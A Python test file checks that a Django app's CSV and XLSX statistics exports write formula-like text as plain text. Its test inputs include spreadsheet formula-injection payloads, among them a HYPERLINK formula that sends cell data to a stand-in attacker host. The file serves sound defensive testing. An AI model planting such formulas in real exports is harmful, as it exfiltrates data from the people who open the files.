"""Exports never carry a live spreadsheet formula: text that a spreadsheet would evaluate (a station
named =HYPERLINK(…), an alarm name from a terminal) comes back as the same text, read as text."""

import csv
import io

import pytest
from openpyxl import load_workbook

from accounts.models import Station
from stats.exports import CSVRenderer, XLSXRenderer
from tests.stats.conftest import A

NASTY = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def table(values):
    return {
        "table": "alarms",
        "columns": [{"key": "name", "label": "=label"}, {"key": "count", "label": "count"}],
        "rows": [{"name": value, "count": -3} for value in values],
    }


def read_csv(content):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def read_xlsx(content):
    return load_workbook(io.BytesIO(content)).active


def test_csv_cells_that_would_be_formulas_are_written_as_text():
    lines = read_csv(CSVRenderer().render(table([*NASTY, "玉田镇", "A-1"])))
    assert lines[0] == ["'=label", "count"]
    names = [line[0] for line in lines[2:]]
    assert names == ["'" + value for value in NASTY] + ["玉田镇", "A-1"]
    assert {line[1] for line in lines[2:]} == {"-3"}  # numbers stay numbers, negative ones too


def test_xlsx_cells_that_would_be_formulas_are_text_cells():
    sheet = read_xlsx(XLSXRenderer().render(table([*NASTY, "玉田镇"])))
    assert sheet["A1"].value == "=label" and sheet["A1"].data_type == "s"
    cells = [row[0] for row in sheet.iter_rows(min_row=3)]
    # XML keeps no bare CR: it reads back as a line feed.
    assert [c.value for c in cells] == [v.replace("\r", "\n") for v in NASTY] + ["玉田镇"]
    assert all(c.data_type == "s" for c in cells)
    assert all(c.quotePrefix for c in cells[: len(NASTY)])
    assert [row[1].value for row in sheet.iter_rows(min_row=3)] == [-3] * (len(NASTY) + 1)
    assert [row[1].data_type for row in sheet.iter_rows(min_row=3)] == ["n"] * (len(NASTY) + 1)


@pytest.mark.django_db
def test_a_station_named_as_a_formula_is_exported_as_text(county, admin_api):
    name = '=HYPERLINK("http://evil.example","玉田")'
    Station.objects.filter(code=A).update(name=name)
    csv_lines = read_csv(admin_api.get("/api/v1/stats/plate-rate/stations", {"format": "csv"}).content)
    column = csv_lines[1].index("station_name")
    assert "'" + name in [line[column] for line in csv_lines[2:]]
    assert name not in [line[column] for line in csv_lines[2:]]

    sheet = read_xlsx(admin_api.get("/api/v1/stats/plate-rate/stations", {"format": "xlsx"}).content)
    cells = [row[column] for row in sheet.iter_rows(min_row=3)]
    station = next(c for c in cells if c.value == name)
    assert station.data_type == "s"
